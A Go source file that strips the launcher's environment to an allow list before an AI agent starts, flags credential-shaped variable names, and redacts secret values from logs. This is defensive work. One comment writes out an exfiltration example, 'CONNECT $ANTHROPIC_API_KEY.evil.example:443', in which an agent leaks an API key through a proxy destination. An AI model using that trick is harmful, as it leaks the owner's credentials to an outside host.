package agentlaunch

import (
	"fmt"
	"slices"
	"strings"

	"github.com/rs/zerolog"

	"github.com/mitrity/mitrity/govern/config"
	"github.com/mitrity/mitrity/govern/dlp"
)

// Basics are the variables every CLI needs, passed when the launcher's
// environment has them: where it is, who runs it, how its terminal and
// its language are. Nothing here names a credential.
var Basics = []string{
	"HOME", "PATH", "USER", "LOGNAME", "SHELL",
	"TERM", "COLORTERM", "TERM_PROGRAM", "TERM_PROGRAM_VERSION", "COLUMNS", "LINES", "NO_COLOR", "FORCE_COLOR",
	"LANG", "LANGUAGE", "TZ", "EDITOR", "VISUAL",
}

// Locale are the locale's categories (glibc's, which the others' are a
// subset of), passed as basics. Not LC_* at large: ssh's SendEnv LC_*
// forwards any such name, and LC_OPENAI_KEY is no locale but has no word
// CredentialShaped knows.
var Locale = []string{
	"LC_ALL", "LC_CTYPE", "LC_NUMERIC", "LC_TIME", "LC_COLLATE", "LC_MONETARY", "LC_MESSAGES", "LC_PAPER",
	"LC_NAME", "LC_ADDRESS", "LC_TELEPHONE", "LC_MEASUREMENT", "LC_IDENTIFICATION",
}

// credentialWords make a name credential-shaped: the debug log marks such
// a name passed by the allow lists (no basic has one).
var credentialWords = []string{
	"TOKEN", "SECRET", "PASSWORD", "PASSWD", "PASSPHRASE", "CREDENTIAL", "APIKEY", "API_KEY",
	"ACCESS_KEY", "PRIVATE_KEY", "AUTH", "COOKIE", "SESSION", "SIGNING", "CERT",
}

// CredentialShaped reports whether name looks like it holds a credential.
func CredentialShaped(name string) bool {
	u := strings.ToUpper(name)
	for _, w := range credentialWords {
		if strings.Contains(u, w) {
			return true
		}
	}
	return false
}

func basic(name string) bool {
	return slices.Contains(Basics, name) || slices.Contains(Locale, name)
}

// Why a variable is passed.
const (
	FromBasics   = "basics"
	FromDeclared = "agent_launch.env"
)

// FilteredEnv is what the agent gets of the launcher's environment.
type FilteredEnv struct {
	// Env is NAME=VALUE, in the order of the launcher's environment.
	Env []string
	// Passed and Stripped are names only, sorted.
	Passed, Stripped []string
	// AllowFrom is the variable whose names were added: AGENT_ISO_ALLOW,
	// CLAUDE_ISO_ALLOW (the legacy name, read only when the new one is not
	// set at all), or "" when neither is set.
	AllowFrom string
	// Allowed are the names it listed.
	Allowed []string
}

// FilterEnv strips environ (the launcher's, NAME=VALUE) to a whitelist:
// the basics, the names declared in the config, and the names listed in
// $AGENT_ISO_ALLOW, which replaces $CLAUDE_ISO_ALLOW when it is set, even
// to nothing. Names are separated by commas, colons or white space. Every
// other variable is stripped, and so are the two lists themselves. A
// value is never logged, at any level: log sees names and counts only.
func FilterEnv(environ, declared []string, log zerolog.Logger) FilteredEnv {
	var f FilteredEnv
	lookup := map[string]string{}
	present := map[string]bool{}
	for _, kv := range environ {
		name, val, ok := strings.Cut(kv, "=")
		if !ok || name == "" || present[name] {
			continue // the first, as getenv reads it
		}
		present[name] = true
		lookup[name] = val
	}
	list, has := "", false
	if v, ok := lookup[config.AgentIsoAllow]; present[config.AgentIsoAllow] && ok {
		list, has, f.AllowFrom = v, true, config.AgentIsoAllow
	} else if v, ok := lookup[config.AgentIsoAllowLegacy]; ok {
		list, has, f.AllowFrom = v, true, config.AgentIsoAllowLegacy
	}
	if has {
		bad := 0
		for _, n := range strings.FieldsFunc(list, func(r rune) bool { return r == ',' || r == ':' || r == ' ' || r == '\t' || r == '\n' }) {
			if config.AgentEnvProblem(n) != "" {
				bad++
				continue
			}
			if !slices.Contains(f.Allowed, n) {
				f.Allowed = append(f.Allowed, n)
			}
		}
		if bad > 0 {
			// The entries are not shown: a value of the launcher's
			// environment is never printed.
			log.Warn().Str("from", f.AllowFrom).Int("ignored", bad).Msg("agent environment: entries that are not variable names the agent may get were ignored")
		}
		if f.AllowFrom == config.AgentIsoAllowLegacy {
			log.Debug().Msg("agent environment: " + config.AgentIsoAllowLegacy + " read (the legacy name); " + config.AgentIsoAllow + " replaces it when set")
		}
	}
	why := func(name string) string {
		switch {
		case name == config.AgentIsoAllow || name == config.AgentIsoAllowLegacy:
			return ""
		case slices.Contains(f.Allowed, name):
			return f.AllowFrom
		case slices.Contains(declared, name):
			return FromDeclared
		case basic(name):
			return FromBasics
		}
		return ""
	}
	seen := map[string]bool{}
	for _, kv := range environ {
		name, _, ok := strings.Cut(kv, "=")
		if !ok || name == "" || seen[name] {
			continue
		}
		seen[name] = true
		from := why(name)
		if from == "" {
			f.Stripped = append(f.Stripped, name)
			continue
		}
		f.Env = append(f.Env, kv)
		f.Passed = append(f.Passed, name)
		ev := log.Debug().Str("name", name).Str("from", from)
		if from != FromBasics && CredentialShaped(name) {
			ev = ev.Bool("credential_shaped", true)
		}
		ev.Msg("agent environment: passed")
	}
	slices.Sort(f.Passed)
	slices.Sort(f.Stripped)
	log.Debug().Strs("stripped", f.Stripped).Int("passed", len(f.Passed)).Msg("agent environment: stripped")
	return f
}

// Scrubber takes out of a text the launcher logs every value the agent is
// given beyond the basics (agent_launch.env, the allow list: a model API
// key is the usual one), then applies known (the gateway's own credential
// values; nil: none). The agent can spell a destination with such a value
// (CONNECT $ANTHROPIC_API_KEY.evil.example:443), and the session's egress
// proxy, which holds no values, logs the target as asked. Every such
// value is taken as a credential: the launcher cannot tell which are. A
// value shorter than dlp.MinSecretBytes cannot be told from ordinary text
// and is left as it is.
func (f FilteredEnv) Scrubber(known func(string) string) (func(string) string, error) {
	var secrets []dlp.Secret
	for _, kv := range f.Env {
		name, val, _ := strings.Cut(kv, "=")
		if !basic(name) && len(val) >= dlp.MinSecretBytes {
			secrets = append(secrets, dlp.Secret{ID: name, Value: val})
		}
	}
	red, err := dlp.NewRedactor(secrets)
	if err != nil {
		return nil, fmt.Errorf("the agent environment's redactor: %w", err)
	}
	return func(s string) string {
		b, _ := red.Redact([]byte(s))
		s = string(b)
		if known != nil {
			s = known(s)
		}
		return s
	}, nil
}
